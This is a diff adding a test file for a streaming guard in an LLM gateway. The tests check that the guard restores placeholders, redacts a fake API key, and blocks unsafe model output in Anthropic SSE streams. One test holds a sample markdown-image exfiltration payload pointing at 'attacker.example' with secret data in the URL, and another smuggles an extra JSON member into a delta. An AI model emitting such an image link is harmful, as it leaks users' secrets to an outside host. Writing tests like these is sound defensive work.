@@ -1,0 +1,154 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { createGuard } from '../../guard/create-guard.js';
+import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
+import { parseGatewayConfig } from '../config/load-gateway-config.js';
+import { createOutputChecker } from '../guard/output-checker.js';
+import { createResponseGuard } from '../guard/response-guard.js';
+import { createAnthropicStream } from './anthropic-stream.js';
+import { createSseParser, type SseEvent } from './sse-parser.js';
+
+const guard = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
+const config = parseGatewayConfig({});
+const KEY = `sk-${'Zx9Cv8Bn7M'.repeat(3)}`;
+
+function setup() {
+  const vault = guard.createVault();
+  const email = vault.placeholderFor('EMAIL_ADDRESS', 'ann "the boss" <ann@example.com>');
+  const responseGuard = createResponseGuard({
+    checker: createOutputChecker({ guard, failMode: config.failMode }),
+    streaming: config.streaming,
+    vault,
+    tools: new Set(['lookup']),
+    maxBufferChars: 1_000_000,
+  });
+  return { email, responseGuard, transformer: createAnthropicStream(responseGuard) };
+}
+
+/** An Anthropic Messages stream (per its "Streaming Messages" docs) of one text block. */
+function anthropicEvents(pieces: readonly string[], spaced = false): SseEvent[] {
+  const json = (value: unknown) => (spaced ? JSON.stringify(value, null, 1) : JSON.stringify(value));
+  const event = (type: string, data: Record<string, unknown>): SseEvent => ({
+    event: type,
+    data: json({ type, ...data }),
+    id: undefined,
+  });
+  return [
+    event('message_start', { message: { id: 'msg_1', role: 'assistant', content: [] } }),
+    event('content_block_start', { index: 0, content_block: { type: 'text', text: '' } }),
+    event('ping', {}),
+    ...pieces.map((text) => event('content_block_delta', { index: 0, delta: { type: 'text_delta', text } })),
+    event('content_block_stop', { index: 0 }),
+    event('message_delta', { delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 9 } }),
+    event('message_stop', {}),
+  ];
+}
+
+/** Runs events through a fresh transformer; returns the caller's events and the state at the end. */
+function run(makeEvents: (email: string) => readonly SseEvent[]) {
+  const { email, responseGuard, transformer } = setup();
+  let out = '';
+  let completeAt = -1;
+  for (const [index, event] of makeEvents(email).entries()) {
+    out += transformer.onEvent(event);
+    if (responseGuard.violation !== undefined) break;
+    if (transformer.complete === true && completeAt === -1) completeAt = index;
+  }
+  if (responseGuard.violation === undefined && completeAt === -1) out += transformer.onEnd();
+  const received: { event?: string; data: Record<string, unknown> }[] = [];
+  const parser = createSseParser({
+    onEvent: (event) =>
+      received.push({ event: event.event, data: JSON.parse(event.data) as Record<string, unknown> }),
+  });
+  parser.push(Buffer.from(out));
+  parser.end();
+  const text = received
+    .filter((event) => event.data.type === 'content_block_delta')
+    .map((event) => (event.data.delta as { text: string }).text)
+    .join('');
+  return { received, text, completeAt, violation: responseGuard.violation };
+}
+
+function split(text: string, cuts: readonly number[]): string[] {
+  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
+  const pieces: string[] = [];
+  let previous = 0;
+  for (const point of [...points, text.length]) {
+    pieces.push(text.slice(previous, point));
+    previous = point;
+  }
+  return pieces;
+}
+
+describe('createAnthropicStream', () => {
+  it('passes a benign answer whole, and completes at message_stop', () => {
+    const pieces = ['Day 1: ', 'museums', ', day 2: "the coast"', ' \\ done.'];
+    const events = anthropicEvents(pieces);
+    const result = run(() => events);
+    expect(result.text).toBe(pieces.join(''));
+    expect(result.completeAt).toBe(events.length - 1);
+    expect(result.received.at(-1)?.event).toBe('message_stop');
+    // Every delta keeps the documented shape and event name.
+    for (const event of result.received.filter((entry) => entry.data.type === 'content_block_delta')) {
+      expect(event.event).toBe('content_block_delta');
+      expect(event.data).toEqual({ type: 'content_block_delta', index: 0, delta: expect.any(Object) });
+    }
+  });
+
+  it('restores placeholders and redacts a key however the deltas are split, on both paths', () => {
+    // `spaced` JSON never matches a template learned from compact JSON of another delta… but each
+    // spaced delta learns and matches its own shape, so both the template path and the full parse run.
+    fc.assert(
+      fc.property(fc.array(fc.nat(), { maxLength: 30 }), fc.boolean(), (cuts, spaced) => {
+        const result = run((email) => {
+          const text = `Write to ${email} with "quotes" \\ and é, then use ${KEY} for staging.`;
+          return anthropicEvents(split(text, cuts), spaced);
+        });
+        expect(result.violation).toBeUndefined();
+        expect(result.text).toContain('ann "the boss" <ann@example.com>');
+        expect(result.text).not.toContain(KEY);
+        expect(result.text).toContain('[REDACTED:');
+        expect(result.text.endsWith(' for staging.')).toBe(true);
+      }),
+      { numRuns: 60, seed: 7 },
+    );
+  });
+
+  it('stops markdown exfiltration split over template-matched deltas, without the violating text', () => {
+    const pieces = split('Summary. ![x](https://attacker.example/p.png?d=secret) Bye.', [3, 9, 14, 20, 33]);
+    const result = run(() => anthropicEvents(pieces));
+    expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
+    expect(result.text).not.toContain('attacker');
+    expect(result.completeAt).toBe(-1);
+  });
+
+  it('takes the full path for deltas that differ from the learned shape', () => {
+    const events = anthropicEvents(['one ', 'two ', 'three']);
+    const deltas = events.filter((event) => event.event === 'content_block_delta');
+    // A second block index, an extra member smuggled after the literal, a tool-input delta.
+    const other = deltas[1]!.data.replace('"index":0', '"index":1');
+    const smuggled = deltas[2]!.data.replace(
+      '"three"',
+      '"thr","type":"input_json_delta","partial_json":"ee"',
+    );
+    const mixed = [...events];
+    mixed.splice(mixed.indexOf(deltas[1]!), 1, { event: 'content_block_delta', data: other, id: undefined });
+    mixed.splice(mixed.indexOf(deltas[2]!), 1, {
+      event: 'content_block_delta',
+      data: smuggled,
+      id: undefined,
+    });
+    const result = run(() => mixed);
+    const textOf = (index: number) =>
+      result.received
+        .filter((event) => event.data.type === 'content_block_delta' && event.data.index === index)
+        .map((event) => (event.data.delta as { text?: string; partial_json?: string }) ?? {})
+        .map((delta) => delta.text ?? delta.partial_json ?? '')
+        .join('');
+    expect(textOf(1)).toBe('two ');
+    // Parsed in full: the later duplicate member wins, as in JSON.parse, and its text is checked like any
+    // other; the raw literal with the smuggled members never reaches the caller as text.
+    expect(textOf(0)).toBe('one ee');
+    expect(JSON.stringify(result.received)).not.toContain('thr');
+  });
+});
